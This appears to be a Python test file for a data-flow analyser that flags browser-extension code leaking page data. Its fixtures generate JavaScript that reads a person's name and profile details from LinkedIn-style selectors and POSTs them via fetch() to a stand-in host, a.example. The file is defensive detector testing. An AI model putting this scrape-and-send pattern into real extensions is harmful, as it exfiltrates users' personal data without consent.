"""How far one reading is followed: to `MAX_SPREAD` facts, and on from there where the extension is small enough."""

from skimtrace.flow.propagation import MAX_SECOND, MAX_SPREAD
from tests.flow.made import analysed, told

LIMIT = "content.js:1: what is read here spreads too far; it was followed in part"


def chain(length: int, value: str = "a") -> str:
    """Variables that hand a value on, one to the next; the last is sent."""
    names = "".join(f"const v{at + 1} = v{at};\n" for at in range(length))
    return f"const v0 = {value};\n{names}fetch('https://a.example/in', {{method: 'POST', body: v{length}}});\n"


READS = "const a = document.querySelector('.pv-top-card__name').textContent;\n"


def test_a_long_way_is_followed_in_a_small_extension() -> None:
    analysis = analysed({"content.js": READS + chain(MAX_SPREAD + 500)})
    assert told(analysis) == ["content.js:1 person.name -> content.js:3503 body a.example https://a.example/in high"]
    assert analysis.limits == ()


def test_a_longer_way_is_said_not_to_be() -> None:
    analysis = analysed({"content.js": READS + chain(MAX_SECOND + 500)})
    assert (told(analysis), analysis.limits) == ([], (LIMIT,))


def test_what_another_reading_has_gone_through_before_is_gone_through_again() -> None:
    code = (
        "const a = document.querySelector('.pv-top-card__name').textContent, "
        "b = document.querySelector('.pv-top-card__details').textContent;\n"
    )
    analysis = analysed({"content.js": code + chain(MAX_SPREAD + 500, "a + b")})
    way = "content.js:1 {} -> content.js:3503 body a.example https://a.example/in high"
    assert told(analysis) == [way.format("person.name person.profile")]
    assert analysis.limits == ()
